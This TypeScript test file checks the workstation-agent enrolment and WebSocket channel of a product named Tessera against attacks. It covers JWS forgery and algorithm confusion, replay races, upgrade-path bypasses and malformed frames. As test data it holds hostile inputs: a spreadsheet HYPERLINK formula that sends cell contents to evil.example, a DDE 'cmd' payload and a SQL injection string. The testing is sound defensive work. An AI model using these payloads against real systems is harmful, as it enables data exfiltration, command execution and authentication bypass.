/**
 * Workstations and their agents, attacked as an attacker would: a holder of an enrolment token, a
 * pending or denied computer, a compromised approved agent, a stranger on the office's address.
 * Over real sockets where the channel is involved, on both engines where storage decides.
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import net, { type AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { SignJWT, exportJWK, generateKeyPair } from 'jose';
import WebSocket from 'ws';
import { type Client, createTestApp, signedInAdmin, type TestApp } from './helpers/app.js';
import { ENGINES } from './helpers/db.js';
import { enrollSoftwareAgent, TEST_AUDIENCE, type SoftwareAgent } from './helpers/software-agent.js';

interface Frame {
  type: string;
  id?: string;
  kind?: string;
  emergency?: { active: boolean; version: number };
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function until<T>(what: string, read: () => Promise<T | undefined> | T | undefined, timeoutMs = 10_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (value !== undefined && value !== false) return value;
    if (Date.now() > deadline) assert.fail(`${what}: not within ${timeoutMs} ms`);
    await sleep(25);
  }
}

/** A channel as a hostile agent holds it: it acknowledges nothing unless the test does. */
async function channel(port: number, bearer: string, path = '/api/agent/v1/channel') {
  const frames: Frame[] = [];
  const socket = new WebSocket(`ws://127.0.0.1:${port}${path}`, { headers: { authorization: `Bearer ${bearer}` } });
  socket.on('message', (d) => frames.push(JSON.parse(String(d)) as Frame));
  socket.on('error', () => {});
  const closed = new Promise<number>((resolve) => socket.on('close', (code) => resolve(code)));
  await new Promise<void>((resolve, reject) => {
    socket.once('open', () => resolve());
    socket.once('unexpected-response', (_req, res) => reject(new Error(`upgrade refused: ${res.statusCode}`)));
    socket.once('error', reject);
  });
  await until('hello', () => frames.some((f) => f.type === 'hello'));
  return { socket, frames, closed, send: (frame: unknown) => socket.send(typeof frame === 'string' ? frame : JSON.stringify(frame)) };
}

/** An upgrade that must be refused: the HTTP status it got instead. */
function refusedUpgrade(port: number, path: string, headers: Record<string, string> = {}): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}${path}`, { headers });
    socket.on('unexpected-response', (_req, res) => {
      resolve(res.statusCode ?? 0);
      res.resume();
      socket.terminate();
    });
    socket.on('open', () => {
      socket.terminate();
      reject(new Error(`${path}: upgraded`));
    });
    socket.on('error', () => {});
  });
}

const keyPayload = async () => {
  const { publicKey } = await generateKeyPair('ES256', { extractable: true });
  const jwk = await exportJWK(publicKey);
  return { kty: 'EC', crv: 'P-256', x: jwk.x, y: jwk.y };
};
const facts = (machineId: string) => ({ hostname: 'WS-X', domain: 'CORP', osName: 'Linux', osVersion: '1', agentVersion: '1', machineId });

for (const engine of ENGINES) {
  describe(`workstation agents under attack (${engine})`, () => {
    let t: TestApp;
    let admin: Client;
    let port: number;
    let pendingToken: string;
    let autoToken: string;

    before(async () => {
      t = await createTestApp({ engine, credentialLimit: 20 });
      admin = await signedInAdmin(t);
      pendingToken = (await admin.post('/api/workstation-enrolment-tokens', { name: 'attacks pending', maxUses: 1000 })).body.secret;
      autoToken = (await admin.post('/api/workstation-enrolment-tokens', { name: 'attacks auto', maxUses: 1000, autoApprove: true })).body.secret;
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      port = (t.app.server.address() as AddressInfo).port;
    });
    after(() => t.close());

    const call = async (agent: SoftwareAgent, method: 'GET' | 'POST', url: string, payload?: unknown, bearer?: string, ip?: string) => {
      const r = await t.app.inject({
        method,
        url,
        remoteAddress: ip,
        headers: { authorization: `Bearer ${bearer ?? (await agent.assertion())}` },
        ...(payload ? { payload: payload as never } : {}),
      });
      return { status: r.statusCode, body: r.body ? r.json() : undefined };
    };

    it('a denied computer cannot undo the denial by enrolling again with its machine id', async () => {
      const agent = await enrollSoftwareAgent(t.app, { token: pendingToken });
      assert.equal((await admin.post(`/api/workstations/${agent.workstationId}/deny`)).status, 200);
      for (const token of [pendingToken, autoToken]) {
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/agent/v1/enroll',
          payload: { token, publicKey: await keyPayload(), facts: facts(agent.machineId) },
        });
        assert.equal(res.statusCode, 403, res.body);
        assert.equal(res.json().error.code, 'workstations.denied');
      }
      const row = (await admin.get(`/api/workstations/${agent.workstationId}`)).body;
      assert.equal(row.status, 'denied');
      assert.equal(row.approvedAt, null, 'not approved by the auto-approving token');
    });

    it('an emergency acknowledgement counts only for the version this channel was sent, and a forged one cannot drop the others', async () => {
      const honest = await enrollSoftwareAgent(t.app, { token: autoToken });
      const hostile = await enrollSoftwareAgent(t.app, { token: pendingToken });
      const h = await channel(port, await honest.assertion());
      const x = await channel(port, await hostile.assertion());
      const before = (await admin.get('/api/emergency-block')).body;
      const next = before.version + 1;
      // Acknowledged before it exists: it must not count once the block comes.
      for (let i = 0; i < 20; i++) x.send({ type: 'ack', id: `emergency:${next}`, status: 'done' });
      // And versions PostgreSQL's integer cannot hold, again and again, so that a forged ack is
      // first in every flush of the hub's acks (every 500 ms) while the honest agent acknowledges.
      const flood = setInterval(() => {
        x.send({ type: 'ack', id: 'emergency:99999999999999999999', status: 'done' });
        x.send({ type: 'ack', id: `emergency:${2 ** 31}`, status: 'done' });
      }, 5);
      try {
        await sleep(600);
        const on = await admin.post('/api/emergency-block', { confirmation: 'BLOCK ALL WORKSTATIONS', reason: 'attack test' });
        assert.equal(on.status, 200, JSON.stringify(on.body));
        const block = await until('the block on the honest channel', () => h.frames.find((f) => f.id === `emergency:${next}`));
        await until('the block on the hostile channel', () => x.frames.find((f) => f.id === `emergency:${next}`));
        h.send({ type: 'ack', id: block.id, status: 'done' });
        await until('the honest ack counted', async () => (await admin.get(`/api/workstations/${honest.workstationId}`)).body.isEmergencyBlocked);
        await sleep(1200);
      } finally {
        clearInterval(flood);
      }
      const hostileRow = (await admin.get(`/api/workstations/${hostile.workstationId}`)).body;
      assert.equal(hostileRow.isEmergencyBlocked, false, 'acks sent before the block count for nothing');
      // Acked now, after it was sent: it counts.
      x.send({ type: 'ack', id: `emergency:${next}`, status: 'done' });
      await until('the hostile ack counted once sent', async () => (await admin.get(`/api/workstations/${hostile.workstationId}`)).body.isEmergencyBlocked);
      assert.equal((await admin.post('/api/emergency-block/lift', { reason: 'attack test over' })).status, 200);
      h.socket.close();
      x.socket.close();
    });

    it('a valid assertion is not refused because others spent the address budget (an office behind one NAT)', async () => {
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken });
      const office = '203.0.113.50';
      // The office's computer has been working: this node has seen it prove itself.
      assert.equal((await call(agent, 'GET', '/api/agent/v1/status', undefined, undefined, office)).status, 200);
      // Removed or denied computers in the office retry with assertions Tessera refuses, and so can anyone on its network.
      for (let i = 0; i < 25; i++)
        await call(agent, 'GET', '/api/agent/v1/status', undefined, await agent.assertion({ audience: 'https://elsewhere' }), office);
      const stranger = await call(agent, 'GET', '/api/agent/v1/status', undefined, 'garbage', office);
      assert.equal(stranger.status, 429, 'refusals still spend the budget, and are throttled once it is spent');
      const valid = await call(agent, 'POST', '/api/agent/v1/authorize', { account: 'CORP\\nobody', action: 'unlock', method: 'password' }, undefined, office);
      assert.equal(valid.status, 200, JSON.stringify(valid.body));
      assert.equal((await call(agent, 'GET', '/api/agent/v1/status', undefined, undefined, office)).status, 200);
      // A kid this node never saw accepted spends its unit before the database is asked: made-up
      // workstations cost nothing once the budget is spent (a new computer there waits a minute).
      const unseen = await enrollSoftwareAgent(t.app, { token: autoToken });
      assert.equal((await call(unseen, 'GET', '/api/agent/v1/status', undefined, undefined, office)).status, 429);
    });

    it('refuses a JWS that brings its own key, a key of another workstation, alg confusion and a jti taken elsewhere', async () => {
      const ip = '198.51.100.1';
      const victim = await enrollSoftwareAgent(t.app, { token: autoToken });
      // The attacker's own approved workstation, whose private key it holds.
      const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
      const ownJwk = await exportJWK(publicKey);
      const enrolled = await t.app.inject({
        method: 'POST',
        url: '/api/agent/v1/enroll',
        payload: { token: autoToken, publicKey: { kty: 'EC', crv: 'P-256', x: ownJwk.x, y: ownJwk.y }, facts: facts(crypto.randomUUID()) },
      });
      const mine = enrolled.json().workstationId as string;
      const now = Math.floor(Date.now() / 1000);
      const claims = (iss = victim.workstationId) => ({ iss, aud: TEST_AUDIENCE, iat: now, exp: now + 60, jti: crypto.randomBytes(16).toString('base64url') });
      const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
      const header = (extra: Record<string, unknown> = {}, kid = victim.workstationId) => ({ alg: 'ES256', typ: 'tessera-agent+jwt', kid, ...extra });
      // Signed by hand: jose refuses to make some of these (crit, no jti), an attacker does not.
      const sign = async (h: Record<string, unknown>, c: Record<string, unknown>) => {
        const input = `${b64(h)}.${b64(c)}`;
        const signature = await crypto.webcrypto.subtle.sign(
          { name: 'ECDSA', hash: 'SHA-256' },
          privateKey as crypto.webcrypto.CryptoKey,
          new TextEncoder().encode(input),
        );
        return `${input}.${Buffer.from(signature).toString('base64url')}`;
      };
      // The attacker's key is good for its own workstation: each refusal below is about the confusion only.
      assert.equal((await call(victim, 'GET', '/api/agent/v1/status', undefined, await sign(header({}, mine), claims(mine)), ip)).status, 200);
      const forged: [string, string][] = [
        // jwk / jku / x5c in the header: the stored key decides, never one the request brings.
        ['embedded jwk', await sign(header({ jwk: { kty: 'EC', crv: 'P-256', x: ownJwk.x, y: ownJwk.y } }), claims())],
        ['jku', await sign(header({ jku: 'https://evil.example/jwks' }), claims())],
        ['x5c', await sign(header({ x5c: ['MIIB'] }), claims())],
        // Signed with the attacker's workstation key, naming the victim in kid and iss, in kid only, in iss only.
        ['victim kid and iss', await sign(header(), claims())],
        ['victim kid, own iss', await sign(header(), claims(mine))],
        ['own kid, victim iss', await sign(header({}, mine), claims())],
        // Unsigned, HMAC with the public key, another typ, a crit extension, no jti, a short jti, a huge token.
        ['alg none', `${b64(header({ alg: 'none' }))}.${b64(claims())}.`],
        ['HS256', await new SignJWT(claims()).setProtectedHeader(header({ alg: 'HS256' }) as never).sign(new TextEncoder().encode(JSON.stringify(ownJwk)))],
        ['typ JWT', await sign(header({ typ: 'JWT' }, mine), claims(mine))],
        ['crit', await sign(header({ crit: ['x'], x: 1 }, mine), claims(mine))],
        ['no jti', await sign(header({}, mine), { ...claims(mine), jti: undefined })],
        ['short jti', await sign(header({}, mine), { ...claims(mine), jti: 'abc' })],
        ['lifetime 0', await sign(header({}, mine), { ...claims(mine), exp: now })],
        ['huge', `${b64(header({}, mine))}.${'A'.repeat(5000)}.AAAA`],
      ];
      for (const [what, bearer] of forged) {
        const res = await call(victim, 'GET', '/api/agent/v1/status', undefined, bearer, ip);
        assert.equal(res.status, 401, what);
      }
      // One jti per workstation: the same jti used by another workstation is no replay of this one's.
      const jti = crypto.randomBytes(16).toString('base64url');
      assert.equal((await call(victim, 'GET', '/api/agent/v1/status', undefined, await sign(header({}, mine), { ...claims(mine), jti }), ip)).status, 200);
      assert.equal((await call(victim, 'GET', '/api/agent/v1/status', undefined, await victim.assertion({ claims: { jti } }), ip)).status, 200);
      // The kid in upper case names the same workstation: the same jti again is a replay.
      const recased = await sign(header({}, mine.toUpperCase()), { ...claims(mine), jti });
      assert.equal((await call(victim, 'GET', '/api/agent/v1/status', undefined, recased, ip)).status, 401);
    });

    it('takes one assertion once however many requests race with it, and an enrolment token only as often as it allows', async () => {
      const ip = '198.51.100.2';
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken });
      const bearer = await agent.assertion();
      const answers = await Promise.all(Array.from({ length: 15 }, () => call(agent, 'GET', '/api/agent/v1/status', undefined, bearer, ip)));
      assert.equal(answers.filter((a) => a.status === 200).length, 1, JSON.stringify(answers.map((a) => a.status)));
      const three = (await admin.post('/api/workstation-enrolment-tokens', { name: 'three', maxUses: 3 })).body.secret;
      const enrolments = await Promise.all(
        Array.from({ length: 12 }, async (_, i) =>
          t.app.inject({
            method: 'POST',
            url: '/api/agent/v1/enroll',
            remoteAddress: `198.51.100.${100 + i}`,
            payload: { token: three, publicKey: await keyPayload(), facts: facts(crypto.randomUUID()) },
          }),
        ),
      );
      assert.equal(enrolments.filter((r) => r.statusCode === 201).length, 3);
      assert.ok(
        enrolments.every((r) => r.statusCode === 201 || r.json().error.code === 'workstations.token_invalid'),
        enrolments.map((r) => r.body).join('\n'),
      );
    });

    it('enrolments racing with one new machine id make one workstation, never a server error', async () => {
      const machineId = crypto.randomUUID();
      // One token each: enrolments with one token wait for each other on its row.
      const tokens: string[] = [];
      for (let i = 0; i < 8; i++) tokens.push((await admin.post('/api/workstation-enrolment-tokens', { name: `race ${i}` })).body.secret);
      const answers = await Promise.all(
        tokens.map(async (token, i) =>
          t.app.inject({
            method: 'POST',
            url: '/api/agent/v1/enroll',
            remoteAddress: `198.51.100.${200 + i}`,
            payload: { token, publicKey: await keyPayload(), facts: facts(machineId) },
          }),
        ),
      );
      assert.deepEqual(
        answers.map((a) => a.statusCode),
        answers.map(() => 201),
        answers.map((a) => a.body).join('\n'),
      );
      assert.equal(new Set(answers.map((a) => a.json().workstationId)).size, 1);
    });

    it('never upgrades the channel without a valid assertion, however the path is written', async () => {
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken });
      const key = (await admin.post('/api/api-keys', { name: 'ws attack', scope: 'admin' })).body.secret;
      for (const path of ['/api/agent/v1/channel', '/%61pi/agent/v1/channel', '/api/agent/v1/%63hannel', '/API/agent/v1/channel', '/api/agent/v1/channel/']) {
        const attempts: Record<string, string>[] = [
          {},
          { authorization: `Bearer ${key}` },
          { authorization: 'Bearer x.y.z' },
          { cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
        ];
        for (const headers of attempts) {
          const status = await refusedUpgrade(port, path, headers);
          assert.ok(status === 401 || status === 404, `${path} ${JSON.stringify(headers).slice(0, 40)} → ${status}`);
        }
      }
      // A used assertion opens no second channel.
      const bearer = await agent.assertion();
      const first = await channel(port, bearer);
      assert.equal(await refusedUpgrade(port, '/api/agent/v1/channel', { authorization: `Bearer ${bearer}` }), 401);
      first.socket.close();
    });

    it('survives hostile frames: binary, invalid UTF-8, oversized, not JSON, not objects; other agents keep their channel', async () => {
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken });
      const bystander = await enrollSoftwareAgent(t.app, { token: autoToken });
      const b = await channel(port, await bystander.assertion());
      const cases: [string, (s: WebSocket) => void, number][] = [
        ['binary', (s) => s.send(Buffer.from([1, 2, 3]), { binary: true }), 1003],
        ['not JSON', (s) => s.send('{nope'), 1007],
        ['oversized', (s) => s.send('x'.repeat(70 * 1024)), 1009],
        // A text frame whose bytes are not UTF-8: ws refuses it.
        ['invalid UTF-8', (s) => s.send(Buffer.from([0x7b, 0xc3, 0x28, 0x7d]), { binary: false }), 1007],
      ];
      for (const [what, attack, code] of cases) {
        const c = await channel(port, await agent.assertion());
        attack(c.socket);
        assert.equal(await c.closed, code, what);
      }
      const c = await channel(port, await agent.assertion());
      for (const frame of [
        'null',
        '[]',
        '"x"',
        '1',
        '{"type":"ack"}',
        '{"type":"ack","id":"------------------------------------","status":"done"}',
        '{"__proto__":{"x":1},"type":"heartbeat"}',
      ])
        c.send(frame);
      c.send({ type: 'ack', id: crypto.randomUUID(), status: 'done', detail: 'x'.repeat(2000) });
      await sleep(200);
      assert.equal(c.socket.readyState, WebSocket.OPEN, 'unknown or malformed frames are ignored');
      assert.equal(b.socket.readyState, WebSocket.OPEN);
      assert.equal((await call(agent, 'GET', '/api/agent/v1/status')).status, 200);
      c.socket.close();
      b.socket.close();
    });

    it('reads filters literally and writes exports that a spreadsheet will not run: LIKE wildcards, formulas in host names and accounts', async () => {
      const ip = '198.51.100.3';
      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")';
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/agent/v1/enroll',
        remoteAddress: ip,
        payload: { token: autoToken, publicKey: await keyPayload(), facts: { ...facts(crypto.randomUUID()), hostname: hostile } },
      });
      assert.equal(res.statusCode, 201, res.body);
      const workstationId = res.json().workstationId as string;
      for (const q of ['%', '_', '\\', "' or 1=1 --"]) {
        const list = (await admin.get(`/api/workstations?q=${encodeURIComponent(q)}&pageSize=500`)).body;
        assert.ok(
          list.items.every((w: { name: string; hostname: string; domain: string | null; osName: string }) =>
            [w.name, w.hostname, w.domain ?? '', w.osName].some((x) => x.toLowerCase().includes(q.toLowerCase())),
          ),
          `q=${q} matched ${list.total}`,
        );
      }
      const found = (await admin.get(`/api/workstations?q=${encodeURIComponent('"&A1,"')}`)).body;
      assert.deepEqual(
        found.items.map((w: { id: string }) => w.id),
        [workstationId],
      );
      // A computer whose name and accounts are written to run in a spreadsheet.
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken, hostname: "+cmd|' /C calc'!A0" });
      const now = Date.now();
      const events = ['@SUM(1+1)', '-2+3', '=1+1', '\t=1+1'].map((account, i) => ({
        id: crypto.randomUUID(),
        type: 'logon',
        at: new Date(now - 60_000 + i).toISOString(),
        account,
        method: 'password',
        sessionId: `s${i}`,
      }));
      const sent = await call(agent, 'POST', '/api/agent/v1/events', { events }, undefined, ip);
      assert.equal(sent.status, 200, JSON.stringify(sent.body));
      for (const url of [
        `/api/workstation-events/export.csv?workstationId=${agent.workstationId}`,
        `/api/workstation-sessions/export.csv?workstationId=${agent.workstationId}`,
        '/api/workstation-sessions/summary.csv?groupBy=workstation',
      ]) {
        const csv = await admin.get(url);
        assert.equal(csv.status, 200, url);
        const cells = csv.raw.split(/\r\n/).flatMap((line: string) => line.split(','));
        const live = cells.map((c: string) => c.replace(/^"/, '')).filter((c: string) => /^[=+\-@\t\r]/.test(c));
        assert.deepEqual(live, [], url);
        assert.match(csv.raw, /'\+cmd\|/, `${url} holds the hostile host name, made inert`);
      }
    });

    it('turns the emergency block on and off for admins only, and on only with the phrase', async () => {
      const key = async (scope: string) => (await admin.post('/api/api-keys', { name: `emergency ${scope}`, scope })).body.secret as string;
      const as = (secret: string, url: string, payload: unknown) =>
        t.app.inject({ method: 'POST', url, headers: { authorization: `Bearer ${secret}` }, payload: payload as never });
      const write = await key('write');
      const adminKey = await key('admin');
      const on = { confirmation: 'BLOCK ALL WORKSTATIONS', reason: 'attack test' };
      assert.equal((await as(write, '/api/emergency-block', on)).statusCode, 403);
      for (const confirmation of ['block all workstations', 'BLOCK ALL WORKSTATIONS ', 'BLOCK  ALL WORKSTATIONS', '']) {
        const res = await as(adminKey, '/api/emergency-block', { ...on, confirmation });
        assert.equal(res.statusCode, 400, confirmation);
      }
      assert.equal((await admin.get('/api/emergency-block')).body.active, false);
      assert.equal((await as(adminKey, '/api/emergency-block', on)).statusCode, 200);
      assert.equal((await as(write, '/api/emergency-block/lift', { reason: 'not mine to lift' })).statusCode, 403);
      assert.equal((await admin.get('/api/emergency-block')).body.active, true);
      assert.equal((await as(adminKey, '/api/emergency-block/lift', { reason: 'attack test over' })).statusCode, 200);
    });

    it("cannot acknowledge another workstation's command, nor one while pending", async () => {
      const victim = await enrollSoftwareAgent(t.app, { token: autoToken });
      const hostile = await enrollSoftwareAgent(t.app, { token: autoToken });
      const pending = await enrollSoftwareAgent(t.app, { token: pendingToken });
      const cmd = (await admin.post(`/api/workstations/${victim.workstationId}/lock`, { reason: 'x' })).body;
      const x = await channel(port, await hostile.assertion());
      const p = await channel(port, await pending.assertion());
      for (const c of [x, p]) c.send({ type: 'ack', id: cmd.id, status: 'done', detail: 'forged' });
      await sleep(300);
      const state = (await admin.get(`/api/workstations/${victim.workstationId}/commands`)).body.items.find((c: { id: string }) => c.id === cmd.id);
      assert.equal(state.state, 'queued');
      x.socket.close();
      p.socket.close();
    });

    it('an acknowledgement with hostile text is stored and audited, not lost', async () => {
      const agent = await enrollSoftwareAgent(t.app, { token: autoToken });
      const cmd = (await admin.post(`/api/workstations/${agent.workstationId}/lock`, { reason: 'x' })).body;
      const c = await channel(port, await agent.assertion());
      await until('the command', () => c.frames.find((f) => f.id === cmd.id));
      c.send(`{"type":"ack","id":"${cmd.id}","status":"done","detail":"nul \\u0000 and a lone \\ud800 surrogate"}`);
      await until('the ack stored', async () => {
        const s = (await admin.get(`/api/workstations/${agent.workstationId}/commands`)).body.items.find((x: { id: string }) => x.id === cmd.id);
        return s.state === 'done' ? s : undefined;
      });
      const audit = await until('the ack audited', async () => {
        const page = (await admin.get(`/api/audit?action=workstation.command_completed&pageSize=100`)).body;
        return page.items?.find((e: { details?: { commandId?: string } }) => e.details?.commandId === cmd.id);
      });
      assert.ok(audit, 'audited');
      c.socket.close();
    });
  });
}

describe('a node stopping while agents are connected', () => {
  it('closes their channels (1001) instead of waiting for agents that never hang up', async () => {
    const t = await createTestApp();
    try {
      const admin = await signedInAdmin(t);
      const token = (await admin.post('/api/workstation-enrolment-tokens', { name: 'stop', autoApprove: true })).body.secret;
      const agent = await enrollSoftwareAgent(t.app, { token });
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      const c = await channel((t.app.server.address() as AddressInfo).port, await agent.assertion());
      // A live agent: it heartbeats, so the hub never lets it go as silent.
      const heartbeat = setInterval(() => c.send({ type: 'heartbeat' }), 200);
      try {
        const started = Date.now();
        await Promise.race([t.app.close(), sleep(10_000).then(() => assert.fail('the server was still closing after 10 s'))]);
        assert.ok(Date.now() - started < 10_000);
        assert.equal(await c.closed, 1001);
      } finally {
        clearInterval(heartbeat);
      }
    } finally {
      await t.db.close();
    }
  });
});

describe("a stranger's WebSocket upgrades outside the channel", () => {
  it('are answered and closed, never held open (file descriptors, and a close that would wait for ever)', async () => {
    const t = await createTestApp();
    try {
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      const port = (t.app.server.address() as AddressInfo).port;
      const connections = () => new Promise<number>((resolve) => t.app.server.getConnections((_err, n) => resolve(n)));
      const paths = [
        '/api/nope',
        '/healthz',
        '/',
        '/console/x',
        '/API/agent/v1/channel',
        '/api/agent/v1/channelx',
        '/api/%ff',
        '/api/admins',
        '/oidc/auth',
        '/api/agent/v1/channel',
      ];
      const answers: string[] = [];
      for (const path of paths)
        for (let i = 0; i < 5; i++) {
          answers.push(
            await new Promise<string>((resolve) => {
              const s = net.connect(port, '127.0.0.1', () =>
                s.write(
                  `GET ${path} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
                ),
              );
              let text = '';
              s.on('data', (d) => {
                text += d;
                if (!text.includes('\r\n\r\n')) return;
                // The client hangs up once it has the answer, as a browser or a scanner would; the
                // server must close its side too.
                s.end();
                setTimeout(() => {
                  if (s.destroyed) return;
                  s.destroy();
                  resolve(`${path} ${text.split('\r\n')[0]}: held open by the server`);
                }, 1000);
              });
              s.on('close', () => resolve(`${path} ${text.split('\r\n')[0]}`));
              s.on('error', () => {});
            }),
          );
        }
      assert.deepEqual(
        answers.filter((a) => a.includes(' 101 ') || a.includes('held open')),
        [],
      );
      await until('every connection closed by the server', async () => (await connections()) === 0, 5000);
    } finally {
      await Promise.race([t.app.close(), sleep(10_000)]);
      await t.db.close();
    }
  });
});
